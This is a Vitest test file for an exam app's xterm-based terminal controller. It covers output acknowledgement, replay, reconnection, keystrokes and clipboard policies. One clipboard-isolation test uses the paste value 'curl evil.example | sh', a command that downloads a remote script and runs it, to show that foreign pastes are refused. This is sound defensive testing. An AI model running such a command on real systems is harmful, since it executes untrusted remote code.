// @vitest-environment happy-dom
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import type { EventData, EventName } from '../../../../shared/contract.js';
import { ACK_STEP_BYTES, HIGH_WATERMARK_BYTES } from '../../../../shared/terminal.js';
import { clearClipboardMemory, lastCopied } from '../../../../renderer/src/terminal/clipboardMemory.js';
import type { CodingApi } from '../../../../renderer/src/terminal/codingApi.js';
import type { XtermModules } from '../../../../renderer/src/terminal/loadXterm.js';
import { REMAINDER_ACK_DELAY_MS, TerminalController, WRITE_SLICE } from '../../../../renderer/src/terminal/terminalController.js';

/** Output as the app sends it: bytes. */
const out = (text: string) => new TextEncoder().encode(text);

/**
 * Just enough of xterm.js. Like its write buffer, writes complete asynchronously and what is
 * queued by then is parsed in one task (at most `perTask` writes, the rest in the next task, as
 * xterm yields after a time budget), its callbacks called back to back.
 */
class FakeTerminal {
  static last: FakeTerminal | null = null;
  static perTask = Number.POSITIVE_INFINITY;
  /** Each write as text (bytes decoded one write at a time). */
  written: string[] = [];
  /** Each write's bytes, copied. */
  chunks: Uint8Array[] = [];
  options: Record<string, unknown>;
  cols = 80;
  rows = 24;
  selection = '';
  private dataListeners: Array<(d: string) => void> = [];
  keyHandler: ((e: KeyboardEvent) => boolean) | null = null;
  element: HTMLElement | null = null;
  resets = 0;
  constructor(options: Record<string, unknown>) {
    this.options = options;
    FakeTerminal.last = this;
  }
  private queue: Array<() => void> = [];
  writeTasks = 0;
  write(data: string | Uint8Array, cb?: () => void) {
    this.written.push(typeof data === 'string' ? data : new TextDecoder().decode(data));
    this.chunks.push(typeof data === 'string' ? out(data) : data.slice());
    if (this.queue.length === 0) setTimeout(() => this.task(), 0);
    this.queue.push(() => cb?.());
  }
  private task() {
    this.writeTasks += 1;
    for (const done of this.queue.splice(0, FakeTerminal.perTask)) done();
    if (this.queue.length > 0) setTimeout(() => this.task(), 0);
  }
  onData(l: (d: string) => void) {
    this.dataListeners.push(l);
    return { dispose() {} };
  }
  onResize() {
    return { dispose() {} };
  }
  attachCustomKeyEventHandler(h: (e: KeyboardEvent) => boolean) {
    this.keyHandler = h;
  }
  loadAddon(addon: { activate?(t: unknown): void }) {
    addon.activate?.(this);
  }
  open(parent: HTMLElement) {
    this.element = document.createElement('div');
    this.element.className = 'xterm';
    this.element.append(document.createElement('textarea'));
    parent.append(this.element);
  }
  paste(text: string) {
    for (const l of this.dataListeners) l(text);
  }
  input(text: string) {
    for (const l of this.dataListeners) l(text);
  }
  hasSelection() {
    return this.selection.length > 0;
  }
  getSelection() {
    return this.selection;
  }
  reset() {
    this.resets += 1;
  }
  clearSelection() {
    this.selection = '';
  }
  focus() {}
  dispose() {}
  get buffer() {
    const lines = this.written.join('').split('\n');
    return { active: { length: lines.length, getLine: (i: number) => ({ translateToString: () => lines[i] ?? '' }) } };
  }
}

class FakeFit {
  term: FakeTerminal | null = null;
  activate(t: FakeTerminal) {
    this.term = t;
  }
  proposeDimensions() {
    return { cols: 100, rows: 30 };
  }
  fit() {
    if (this.term) {
      this.term.cols = 100;
      this.term.rows = 30;
    }
  }
  dispose() {}
}

const modules = { Terminal: FakeTerminal, FitAddon: FakeFit, WebglAddon: class {} } as unknown as XtermModules;

function fakeApi() {
  const calls: Array<{ method: string; params: Record<string, unknown> }> = [];
  const listeners = new Map<string, Set<(d: unknown) => void>>();
  const record =
    (method: string, result: unknown = {}) =>
    async (params: Record<string, unknown>) => {
      calls.push({ method, params });
      return result;
    };
  const info = { sessionId: 'code', state: 'running', sandboxed: true, network: false, generation: 1, cols: 100, rows: 30 };
  const api = {
    terminalOpen: record('terminalOpen', info),
    terminalRestart: record('terminalRestart', { ...info, generation: 2 }),
    terminalWrite: record('terminalWrite'),
    terminalResize: record('terminalResize'),
    terminalAck: record('terminalAck'),
    workspaceList: record('workspaceList', { entries: [], truncated: false }),
    workspaceRead: record('workspaceRead', { content: '', mtimeMs: 0 }),
    workspaceWrite: record('workspaceWrite', { mtimeMs: 0 }),
    on(event: string, l: (d: unknown) => void) {
      let set = listeners.get(event);
      if (!set) listeners.set(event, (set = new Set()));
      set.add(l);
      return () => set.delete(l);
    },
  } as unknown as CodingApi;
  const emit = <E extends EventName>(event: E, data: EventData<E>) => {
    for (const l of listeners.get(event) ?? []) l(data);
  };
  const of = (method: string) => calls.filter((c) => c.method === method).map((c) => c.params);
  return { api, calls, emit, of };
}

const settle = () => new Promise((r) => setTimeout(r, 5));
/** Long enough for xterm to have stayed caught up and the remainder to be acknowledged. */
const quiet = () => new Promise((r) => setTimeout(r, REMAINDER_ACK_DELAY_MS + 20));

function pasteEvent(text: string): Event {
  const event = new Event('paste', { bubbles: true, cancelable: true });
  Object.defineProperty(event, 'clipboardData', { value: { getData: () => text } });
  return event;
}

let container: HTMLElement;
beforeEach(() => {
  container = document.createElement('div');
  document.body.append(container);
});
afterEach(() => {
  container.remove();
  clearClipboardMemory();
  FakeTerminal.perTask = Number.POSITIVE_INFINITY;
});

async function started(policy: 'allow' | 'isolated' | 'block' = 'allow') {
  const fake = fakeApi();
  const controller = new TerminalController({ api: fake.api, sessionId: 'code', clipboardPolicy: policy, loadModules: async () => modules, tryWebgl: () => false });
  controller.attach(container);
  await controller.start();
  return { ...fake, controller, term: FakeTerminal.last as FakeTerminal };
}

describe('TerminalController', () => {
  it('opens the shell at the fitted size and releases what a previous page left unacknowledged', async () => {
    const { controller, of } = await started();
    expect(of('terminalOpen')).toEqual([{ sessionId: 'code', cols: 100, rows: 30 }]);
    expect(of('terminalAck')).toEqual([{ sessionId: 'code', bytes: HIGH_WATERMARK_BYTES * 2 }]);
    expect(controller.getSnapshot().phase).toBe('running');
    expect(controller.getSnapshot().renderer).toBe('dom');
    controller.dispose();
  });

  it('writes output as bytes and acknowledges all of it once xterm has written it and caught up', async () => {
    const { controller, emit, of, term } = await started();
    const before = of('terminalAck').length;
    emit('terminalOutput', { sessionId: 'code', data: out('a'.repeat(3_000)) });
    emit('terminalOutput', { sessionId: 'other', data: out('b'.repeat(9_000)) }); // another item's terminal
    emit('terminalOutput', { sessionId: 'code', data: out('c'.repeat(8_000)) });
    expect(of('terminalAck').length).toBe(before); // nothing acknowledged before xterm wrote it
    await settle();
    expect(term.written.join('')).toBe('a'.repeat(3_000) + 'c'.repeat(8_000));
    // Below one step: it goes once xterm has stayed caught up for a moment, so a terminal at rest owes nothing.
    expect(of('terminalAck').length).toBe(before);
    await quiet();
    expect(of('terminalAck').slice(before)).toEqual([{ sessionId: 'code', bytes: 11_000 }]);
    controller.dispose();
  });

  it('hands a large batch to xterm in slices of the same bytes, a character split between two slices included', async () => {
    const { controller, emit, of, term } = await started();
    const before = of('terminalAck').length;
    const data = out('€'.repeat(20_000)); // 60,000 bytes; 16,384 is no multiple of 3
    emit('terminalOutput', { sessionId: 'code', data });
    await settle();
    expect(term.chunks.length).toBe(Math.ceil(data.length / WRITE_SLICE));
    expect(term.chunks.every((c) => c.length <= WRITE_SLICE)).toBe(true);
    expect(Buffer.concat(term.chunks).equals(Buffer.from(data))).toBe(true);
    await quiet();
    const acked = of('terminalAck').slice(before).reduce((sum, p) => sum + (p.bytes as number), 0);
    expect(acked).toBe(data.length);
    controller.dispose();
  });

  it('while xterm is behind acknowledges whole steps per task, never more than ACK_STEP_BYTES a message, the rest once caught up and quiet', async () => {
    const { controller, emit, of, term } = await started();
    FakeTerminal.perTask = 3;
    const before = of('terminalAck').length;
    const total = 12 * WRITE_SLICE + 100;
    emit('terminalOutput', { sessionId: 'code', data: out('x'.repeat(total)) });
    for (let i = 0; i < 10; i++) await settle();
    await quiet();
    expect(term.writeTasks).toBe(Math.ceil(13 / 3));
    const acks = of('terminalAck').slice(before).map((p) => p.bytes as number);
    expect(acks.reduce((a, b) => a + b, 0)).toBe(total);
    expect(acks.every((n) => n <= ACK_STEP_BYTES)).toBe(true);
    // Every ack but the last is a whole step: the remainder waits until xterm has caught up.
    expect(acks.slice(0, -1).every((n) => n === ACK_STEP_BYTES)).toBe(true);
    expect(acks.at(-1)).toBe(total % ACK_STEP_BYTES);
    controller.dispose();
  });

  it('sends the acks of all the slices xterm wrote in one task together, split at ACK_STEP_BYTES', async () => {
    const { controller, emit, of, term } = await started();
    const before = of('terminalAck').length;
    // Three slices or more over two frames, written in one task: two whole steps and a remainder.
    const total = 2 * ACK_STEP_BYTES + 100;
    emit('terminalOutput', { sessionId: 'code', data: out('x'.repeat(total - WRITE_SLICE)) });
    emit('terminalOutput', { sessionId: 'code', data: out('y'.repeat(WRITE_SLICE)) });
    await settle();
    expect(term.writeTasks).toBe(1);
    expect(of('terminalAck').slice(before).map((p) => p.bytes)).toEqual([ACK_STEP_BYTES, ACK_STEP_BYTES]);
    await quiet();
    expect(of('terminalAck').slice(before).map((p) => p.bytes)).toEqual([ACK_STEP_BYTES, ACK_STEP_BYTES, total - 2 * ACK_STEP_BYTES]);
    controller.dispose();
  });

  it('a flood that xterm catches up with between frames is acknowledged in whole steps and at most one remainder per REMAINDER_ACK_DELAY_MS', async () => {
    const { controller, emit, of } = await started();
    vi.useFakeTimers();
    try {
      const before = of('terminalAck').length;
      const frame = 10_000;
      const frames = 40;
      const gapMs = 5;
      for (let i = 0; i < frames; i++) {
        emit('terminalOutput', { sessionId: 'code', data: out('z'.repeat(frame)) });
        await vi.advanceTimersByTimeAsync(gapMs); // xterm has written it and nothing is queued before the next frame
      }
      const during = of('terminalAck').slice(before).map((p) => p.bytes as number);
      const remainders = during.filter((n) => n !== ACK_STEP_BYTES);
      // One per frame before (40 here); now one per quiet moment of the 200 ms at most.
      expect(remainders.length).toBeLessThanOrEqual((frames * gapMs) / REMAINDER_ACK_DELAY_MS + 1);
      await vi.advanceTimersByTimeAsync(REMAINDER_ACK_DELAY_MS + 10);
      const all = of('terminalAck').slice(before).map((p) => p.bytes as number);
      expect(all.every((n) => n <= ACK_STEP_BYTES)).toBe(true);
      expect(all.reduce((a, b) => a + b, 0)).toBe(frames * frame);
    } finally {
      vi.useRealTimers();
      controller.dispose();
    }
  });

  it('redraws from the replay that answers its open, without acknowledging it', async () => {
    const fake = fakeApi();
    const open = fake.api.terminalOpen;
    fake.api.terminalOpen = async (params) => {
      // The app sends the replay before it replies (terminalManager.open).
      fake.emit('terminalOutput', { sessionId: 'code', data: out('r'.repeat(12_000)), replay: true });
      return open(params);
    };
    const controller = new TerminalController({ api: fake.api, sessionId: 'code', clipboardPolicy: 'allow', loadModules: async () => modules, tryWebgl: () => false });
    controller.attach(container);
    fake.emit('terminalOutput', { sessionId: 'code', data: out('live before the open') }); // contained in the replay
    await controller.start();
    await quiet();
    const term = FakeTerminal.last as FakeTerminal;
    const all = term.written.join('');
    // A full reset (ESC c) in xterm's write queue, then the replay: what was written before is gone.
    expect(all.slice(all.lastIndexOf('\x1bc')) === `\x1bc${'r'.repeat(12_000)}`).toBe(true);
    // The release that follows every open, and the live output xterm wrote: the replay itself is
    // outside flow control.
    expect(fake.of('terminalAck')).toEqual([
      { sessionId: 'code', bytes: HIGH_WATERMARK_BYTES * 2 },
      { sessionId: 'code', bytes: 'live before the open'.length },
    ]);
    // A replay answering another page's open is not ours to show.
    fake.emit('terminalOutput', { sessionId: 'code', data: out('someone else'), replay: true });
    await settle();
    expect(term.written.join('')).not.toContain('someone else');
    controller.dispose();
  });

  it('opens the shell again when a dropped connection comes back, releasing what was lost', async () => {
    const fake = fakeApi();
    let state: 'open' | 'reconnecting' = 'open';
    const listeners = new Set<(s: 'open' | 'reconnecting') => void>();
    const connection = {
      get: () => state,
      subscribe: (l: (s: 'open' | 'reconnecting') => void) => {
        listeners.add(l);
        return () => listeners.delete(l);
      },
    };
    const setState = (next: 'open' | 'reconnecting') => {
      state = next;
      for (const l of listeners) l(next);
    };
    const controller = new TerminalController({ api: fake.api, sessionId: 'code', clipboardPolicy: 'allow', loadModules: async () => modules, tryWebgl: () => false, connection });
    controller.attach(container);
    await controller.start();
    expect(fake.of('terminalOpen')).toHaveLength(1);
    setState('open'); // no change: nothing to do
    expect(fake.of('terminalOpen')).toHaveLength(1);
    setState('reconnecting');
    setState('open');
    await settle();
    expect(fake.of('terminalOpen')).toHaveLength(2);
    expect(fake.of('terminalAck')).toEqual([
      { sessionId: 'code', bytes: HIGH_WATERMARK_BYTES * 2 },
      { sessionId: 'code', bytes: HIGH_WATERMARK_BYTES * 2 },
    ]);
    expect(controller.getSnapshot().phase).toBe('running');
    controller.dispose();
    setState('reconnecting');
    setState('open');
    await settle();
    expect(fake.of('terminalOpen')).toHaveLength(2); // a disposed terminal stays closed
  });

  it('keeps output that arrives while xterm is still loading', async () => {
    const fake = fakeApi();
    let release: () => void = () => {};
    const gate = new Promise<void>((r) => (release = r));
    const controller = new TerminalController({ api: fake.api, sessionId: 'code', clipboardPolicy: 'allow', loadModules: async () => (await gate, modules), tryWebgl: () => false });
    controller.attach(container);
    const starting = controller.start();
    fake.emit('terminalOutput', { sessionId: 'code', data: out('early prompt $ ') });
    release();
    await starting;
    expect((FakeTerminal.last as FakeTerminal).written).toEqual(['early prompt $ ']);
    controller.dispose();
  });

  it('sends keystrokes at once, one request each', async () => {
    const { controller, of, term } = await started();
    term.input('l');
    term.input('s');
    expect(of('terminalWrite')).toEqual([
      { sessionId: 'code', data: 'l' },
      { sessionId: 'code', data: 's' },
    ]);
    controller.dispose();
  });

  it('isolated: a paste goes through only when it is the text last copied inside the exam', async () => {
    const { controller, of, term } = await started('isolated');
    const textarea = container.querySelector('textarea') as HTMLTextAreaElement;
    const refused = pasteEvent('curl evil.example | sh');
    textarea.dispatchEvent(refused);
    expect(refused.defaultPrevented).toBe(true);
    expect(of('terminalWrite')).toEqual([]);
    expect(controller.getSnapshot().notice).toContain('Only text copied inside the exam');

    // Copying the terminal's selection remembers it; pasting it back is allowed.
    term.selection = 'npm test';
    const copy = new Event('copy', { bubbles: true, cancelable: true });
    (term.element as HTMLElement).dispatchEvent(copy);
    expect(lastCopied()).toBe('npm test');
    textarea.dispatchEvent(pasteEvent('npm test'));
    expect(of('terminalWrite')).toEqual([{ sessionId: 'code', data: 'npm test' }]);
    controller.dispose();
  });

  it('block: refuses paste and copy; allow: pastes the system clipboard', async () => {
    const blocked = await started('block');
    (container.querySelector('textarea') as HTMLTextAreaElement).dispatchEvent(pasteEvent('text'));
    expect(blocked.of('terminalWrite')).toEqual([]);
    expect(blocked.controller.getSnapshot().notice).toContain('turned off');
    blocked.controller.setClipboardPolicy('allow');
    (container.querySelector('textarea') as HTMLTextAreaElement).dispatchEvent(pasteEvent('echo ok'));
    expect(blocked.of('terminalWrite')).toEqual([{ sessionId: 'code', data: 'echo ok' }]);
    blocked.controller.dispose();
  });

  it('leaves exam shortcuts and F6 to the page, keeps Tab for the shell', async () => {
    const { controller, term } = await started();
    const handler = term.keyHandler as (e: KeyboardEvent) => boolean;
    expect(handler(new KeyboardEvent('keydown', { key: 'n', code: 'KeyN', altKey: true }))).toBe(false);
    expect(handler(new KeyboardEvent('keydown', { key: 'Tab', code: 'Tab' }))).toBe(true);
    const after = document.createElement('button');
    document.body.append(after);
    expect(handler(new KeyboardEvent('keydown', { key: 'F6', code: 'F6' }))).toBe(false);
    expect(document.activeElement).toBe(after);
    after.remove();
    controller.dispose();
  });

  it('Ctrl+C copies when text is selected, and is the interrupt otherwise', async () => {
    const { controller, term } = await started();
    const handler = term.keyHandler as (e: KeyboardEvent) => boolean;
    const ctrlC = () => new KeyboardEvent('keydown', { key: 'c', code: 'KeyC', ctrlKey: true, cancelable: true });
    expect(handler(ctrlC())).toBe(true); // nothing selected: xterm sends ^C to the shell
    term.selection = 'ℹ fail 1';
    document.execCommand = () => false; // no clipboard in happy-dom: the fallback path
    expect(handler(ctrlC())).toBe(false);
    expect(lastCopied()).toBe('ℹ fail 1');
    expect(term.hasSelection()).toBe(false); // cleared, so the next Ctrl+C interrupts
    controller.dispose();
  });

  it('shows the exit and restarts on request with a clean screen', async () => {
    const { controller, emit, of, term } = await started();
    emit('terminalExit', { sessionId: 'code', exitCode: 0, signal: null });
    expect(controller.getSnapshot().phase).toBe('exited');
    await controller.restart();
    expect(of('terminalRestart')).toEqual([{ sessionId: 'code' }]);
    expect(term.resets).toBe(1);
    expect(controller.getSnapshot().phase).toBe('running');
    expect(controller.getSnapshot().info?.generation).toBe(2);
    controller.dispose();
  });

  it('shows terminalError events and a failed open', async () => {
    const { controller, emit } = await started();
    emit('terminalError', { sessionId: 'code', error: { code: 'storage', message: 'the recording could not be written' } });
    expect(controller.getSnapshot().errors).toEqual(['the recording could not be written']);
    controller.dispose();

    const fake = fakeApi();
    (fake.api as { terminalOpen: unknown }).terminalOpen = async () => {
      throw new Error('bubblewrap cannot create a sandbox here');
    };
    const failing = new TerminalController({ api: fake.api, sessionId: 'code', clipboardPolicy: 'allow', loadModules: async () => modules, tryWebgl: () => false });
    failing.attach(container);
    await failing.start();
    await failing.firstOpen;
    expect(failing.getSnapshot()).toMatchObject({ phase: 'failed', failure: 'bubblewrap cannot create a sandbox here' });
    failing.dispose();
  });
});
